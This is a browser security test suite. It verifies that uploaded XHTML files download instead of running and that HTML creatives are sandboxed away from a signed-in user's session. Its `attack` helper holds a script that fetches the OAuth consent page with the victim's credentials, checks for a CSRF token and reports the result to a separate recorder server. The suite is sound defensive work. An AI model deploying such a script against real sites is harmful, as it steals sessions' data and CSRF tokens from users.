// Uploaded files in a real browser (Debian's Chromium through playwright-core), with a user signed
// in on the platform's origin: an XHTML upload must not run at all (it downloads), and an HTML
// creative runs only in a sandbox, unable to read same-origin pages such as the consent form.
// The page's scripts report what they managed to do to a recorder server on another port.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import { Readable } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import type { Browser, BrowserContext } from 'playwright-core';
import { startTestApp, type TestApp } from './helpers/app.js';
import { browserProblem, launchChromium, skipUnlessRequired } from './helpers/browser.js';
import { sqliteDatabase } from './helpers/databases.js';
import { thirdPartySetup, type ThirdPartySetup } from './helpers/oauth.js';

const problem = browserProblem('files browser test');

describe('uploaded files in Chromium never act on the API origin', { skip: skipUnlessRequired(problem) }, () => {
  const tdb = sqliteDatabase();
  let t: TestApp;
  let browser: Browser;
  let ctx: BrowserContext;
  let recorder: http.Server;
  let recorderUrl = '';
  const reports: string[] = [];
  let s: ThirdPartySetup;

  before(async () => {
    recorder = http.createServer((req, res) => {
      const u = new URL(req.url!, 'http://x');
      if (u.pathname === '/report') reports.push(u.searchParams.get('what') ?? '');
      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
    });
    await new Promise<void>((r) => recorder.listen(0, '127.0.0.1', r));
    recorderUrl = `http://127.0.0.1:${(recorder.address() as { port: number }).port}`;
    t = await startTestApp(await tdb.open());
    s = await thirdPartySetup(t, 'campaigns:write', { redirectUri: `${recorderUrl}/callback` });
    browser = await launchChromium(problem);
    // the victim signs in on the platform: from now on the browser holds the session cookie
    ctx = await browser.newContext({ acceptDownloads: true });
    const page = await ctx.newPage();
    const q = new URLSearchParams({ client_id: s.clientId, redirect_uri: s.redirectUri, response_type: 'code', scope: 'campaigns:write', state: 'x' });
    await page.goto(`${t.url}/oauth/initialize?${q}`);
    await page.getByLabel('E-mail address').fill(s.email);
    await page.getByLabel('Password').fill(s.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('button', { name: 'Approve' }).waitFor();
    await page.close();
  });
  after(async () => {
    await browser?.close();
    await t?.close();
    await tdb.cleanup();
    await new Promise((r) => recorder?.close(r));
  });

  /** A script that tries to read the consent page (and its CSRF token) with the victim's session. */
  const attack = () => {
    const q = new URLSearchParams({ client_id: s.clientId, redirect_uri: s.redirectUri, response_type: 'code', scope: 'campaigns:write', state: 'y' });
    return `fetch('${t.url}/oauth/initialize?${q}', { credentials: 'include' })
      .then((r) => r.text())
      .then((body) => fetch('${recorderUrl}/report?what=' + (body.includes('csrf_token') ? 'READ-CONSENT' : 'read-other')))
      .catch(() => fetch('${recorderUrl}/report?what=blocked'));`;
  };
  const store = async (name: string, body: string) => {
    const a = await t.c.assets.ingest({ accountId: s.accountId, fileName: name, stream: Readable.from([Buffer.from(body)]) });
    return t.url + new URL(a.url).pathname;
  };

  it('an XHTML file (<?xml ...>) is downloaded, not rendered: its script never runs', async () => {
    const url = await store('evil.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>//<![CDATA[\n${attack()}\n//]]></script></body></html>`);
    const page = await ctx.newPage();
    const download = page.waitForEvent('download');
    await page.goto(url).catch(() => undefined); // Chromium aborts the navigation: "Download is starting"
    assert.equal((await download).suggestedFilename(), 'evil.xhtml');
    // give a script that might have run every chance to report: the next report is the sandbox test's own
    await page.close();
    assert.deepEqual(reports, []);
  });

  it('an HTML creative runs in an opaque origin: it cannot read the consent page with the session', async () => {
    const url = await store('play.html', `<canvas></canvas><script>${attack()}</script>`);
    const page = await ctx.newPage();
    await page.goto(url);
    const deadline = Date.now() + 15_000;
    while (reports.length === 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    assert.deepEqual(reports, ['blocked']);
    // and document.cookie is not this origin's
    const cookie = await page.evaluate(() => { try { return document.cookie; } catch (e) { return `denied: ${(e as Error).name}`; } });
    assert.match(cookie, /^denied: SecurityError$/);
    await page.close();
  });
});
